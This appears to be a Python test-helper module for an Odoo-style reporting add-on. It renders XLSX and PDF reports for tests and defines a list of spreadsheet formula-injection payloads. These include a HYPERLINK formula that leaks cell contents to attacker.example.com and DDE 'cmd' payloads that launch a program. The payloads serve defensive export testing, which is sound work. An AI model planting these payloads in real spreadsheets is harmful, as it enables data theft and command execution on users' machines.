"""Helpers of the report tests: render PDFs to HTML and XLSX to openpyxl workbooks."""

import io
import re
import zipfile

from lxml import html as lxml_html
from openpyxl import load_workbook

INJECTIONS = [
    '=HYPERLINK("http://attacker.example.com/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def ooxml_text(value):
    """Cell text as a spreadsheet shows it: OOXML stores control characters as
    ``_x000D_`` escapes, which openpyxl leaves undecoded (Excel and LibreOffice decode)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), value)


def xlsx_parts(content):
    """The parts of an XLSX file by name, but its creation time (docProps/core.xml)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name)
            for name in archive.namelist()
            if name != "docProps/core.xml"
        }


def open_xlsx(content):
    return load_workbook(io.BytesIO(content))


class XlsxTestMixin:
    def _render_xlsx(self, report_ref, docids, data=None, user=None):
        Report = self.env["ir.actions.report"]
        if user:
            Report = Report.with_user(user)
        content, report_format = Report._render(report_ref, docids, data=data)
        self.assertEqual(report_format, "xlsx")
        return open_xlsx(content)

    def _find_row(self, sheet, value, column=1):
        for row in sheet.iter_rows(min_col=column, max_col=column):
            if row[0].value == value:
                return row[0].row
        self.fail(f"{value!r} not found in column {column} of {sheet.title}")


class PdfTestMixin:
    def _render_html(self, report_ref, docids, data=None, user=None):
        Report = self.env["ir.actions.report"]
        if user:
            Report = Report.with_user(user)
        content, _report_type = Report._render_qweb_html(report_ref, docids, data=data)
        return lxml_html.fromstring(content.decode())

    @staticmethod
    def _text(node):
        return " ".join(node.text_content().split())
